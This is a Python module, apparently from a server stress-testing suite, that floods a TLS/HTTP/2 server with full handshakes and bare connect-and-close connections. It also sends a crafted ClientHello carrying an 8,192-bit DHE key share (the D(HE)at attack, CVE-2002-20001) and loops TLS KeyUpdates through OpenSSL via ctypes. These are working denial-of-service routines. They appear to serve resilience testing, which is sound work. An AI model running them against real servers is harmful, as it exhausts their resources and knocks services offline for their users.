"""Connections that are opened, with TLS and without, and what they cost before anybody said who they are."""

import ctypes
import ctypes.util
import os
import socket
import struct
import time

from attack import silent_socket
from http2 import open_socket, open_tls


def handshakes(server, ca, said, until):
    while time.monotonic() < until:
        try:
            open_tls(server, ca).close()
            said["handshakes"] += 1
        except OSError:
            said["failed"] += 1


def extension(kind, content):
    return struct.pack(">HH", kind, len(content)) + content


def listed(content, size=2):
    return len(content).to_bytes(size, "big") + content


def dhe_hello():
    """A ClientHello of TLS 1.3 with a share of 8,192 bits (CVE-2002-20001, CVE-2022-40735): its sender
    computes nothing."""
    group = struct.pack(">H", 0x0104)
    extensions = (
        extension(10, listed(group))
        + extension(13, listed(b"\x04\x03\x08\x04\x04\x01"))
        + extension(43, listed(b"\x03\x04", 1))
        + extension(16, listed(listed(b"h2", 1)))
        + extension(51, listed(group + listed(b"\x7f" + os.urandom(1023))))
    )
    hello = b"\x03\x03" + os.urandom(32) + b"\0" + listed(b"\x13\x01") + b"\x01\0" + listed(extensions)
    handshake = b"\x01" + listed(hello, 3)
    return b"\x16\x03\x01" + listed(handshake)


def dhe_hellos(server, ca, said, until):
    hello = dhe_hello()
    while time.monotonic() < until:
        with open_socket(server) as connection:
            connection.sendall(hello)
            answer = connection.recv(64)
            said["alert" if answer[:1] == b"\x15" else "answered" if answer else "closed"] += 1


def connects(server, ca, said, until):
    """Connections that are closed as soon as they are there: each may be a line of the log."""
    while time.monotonic() < until:
        try:
            silent_socket(server).close()
            said["connections"] += 1
        except OSError:
            said["refused"] += 1


def key_updates(server, ca, said, until):
    """KeyUpdates of TLS 1.3, for each of which keys are derived anew; Python's own TLS sends none."""
    library = ctypes.CDLL(ctypes.util.find_library("ssl"))
    for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
        getattr(library, name).restype = ctypes.c_void_p
    pointer = ctypes.c_void_p
    context = pointer(library.SSL_CTX_new(pointer(library.TLS_client_method())))
    protocols = b"\x02h2"
    library.SSL_CTX_set_alpn_protos(context, protocols, len(protocols))
    while time.monotonic() < until:
        with open_socket(server) as connection:
            connection.settimeout(None)
            session = pointer(library.SSL_new(context))
            library.SSL_set_fd(session, connection.fileno())
            if library.SSL_connect(session) != 1:
                said["refused"] += 1
                library.SSL_free(session)
                continue
            while time.monotonic() < until:
                # Not asking for one in return; sent by the next write, or handshake.
                library.SSL_key_update(session, 0)
                if library.SSL_do_handshake(session) != 1:
                    said["closed"] += 1
                    break
                said["key updates"] += 1
            library.SSL_free(session)
    library.SSL_CTX_free(context)
